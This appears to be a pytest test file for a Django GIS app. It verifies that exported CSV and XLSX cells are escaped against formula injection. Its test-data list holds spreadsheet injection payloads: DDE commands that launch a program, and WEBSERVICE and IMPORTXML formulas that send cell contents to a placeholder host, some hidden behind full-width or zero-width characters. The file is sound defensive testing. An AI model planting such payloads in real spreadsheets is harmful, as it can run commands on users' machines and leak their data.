"""What people take away to a spreadsheet program never runs there."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from hypothesis import given
from hypothesis import strategies as st

from gis.services import spreadsheets
from gis.services.spreadsheets import as_csv, as_xlsx, harmless

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    '=HYPERLINK("http://x","点我")',
    '=WEBSERVICE("http://x/"&A1)',
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
]
DANGEROUS = re.compile(r"[\s\u200b\u200e\u200f\ufeff\x00]*[=+\-@＝＋－＠]|[\t\r\n]")


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_looks_like_a_formula_stays_text(text: str) -> None:
    assert harmless(text) == f"'{text}"
    rows = list(csv.reader(io.StringIO(as_csv([text], [[text]]).decode("utf-8-sig"), newline="")))
    assert rows == [[f"'{text}"], [f"'{text}"]], "headings too: a report may carry those of the file that came in"
    raw = as_xlsx(text, [text], [[text]])
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).worksheets[0]
    assert all(cell.data_type == "s" and cell.value.startswith("'") for row in sheet.iter_rows() for cell in row)
    assert b"<f" not in zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("cell", ["许昌市", "1-2 组", "a=b", "", 5, -5, -1.5, None, date(2024, 5, 1)])
def test_what_is_harmless_is_left_alone(cell: spreadsheets.Cell) -> None:
    assert harmless(cell) == cell


@given(st.text(max_size=20))
def test_no_text_ever_begins_like_a_formula(text: str) -> None:
    written = harmless(text)
    assert written in {text, f"'{text}"}
    assert not DANGEROUS.match(str(written))


@given(st.text(st.sampled_from("=+-@;,\t\"'|!甲 "), min_size=1, max_size=12))
def test_no_separator_of_another_country_frees_a_formula(text: str) -> None:
    """Where Excel takes semicolons or tabs for separators, quoted text stays one cell."""
    raw = as_csv(["名称", "数"], [[text, 5]]).decode("utf-8-sig")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter):
            assert not DANGEROUS.match(row[0])
    assert raw.splitlines()[1].startswith('"')


def test_a_title_that_no_sheet_may_have() -> None:
    assert openpyxl.load_workbook(io.BytesIO(as_xlsx("'2024/05: [县]*?", ["甲"], []))).sheetnames == ["2024 05   县   "]


def test_every_writer_of_csv_knows_of_this() -> None:
    """A module that writes CSV or workbooks by itself must at least escape by the same function."""
    root = Path(settings.BASE_DIR)
    writing = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl\.Workbook\(")
    found = {
        path.relative_to(root).as_posix(): path.read_text("utf-8")
        for app in ("gis", "boundaries", "placenames", "importers")
        for path in (root / app).rglob("*.py")
        if writing.search(path.read_text("utf-8"))
    }
    assert "gis/services/spreadsheets.py" in found
    of_our_own = {"boundaries/views/indicator_import.py"}  # an empty form with the names of the catalogue
    assert {name for name, code in found.items() if not re.search(r"harmless|text_cell", code)} == of_our_own
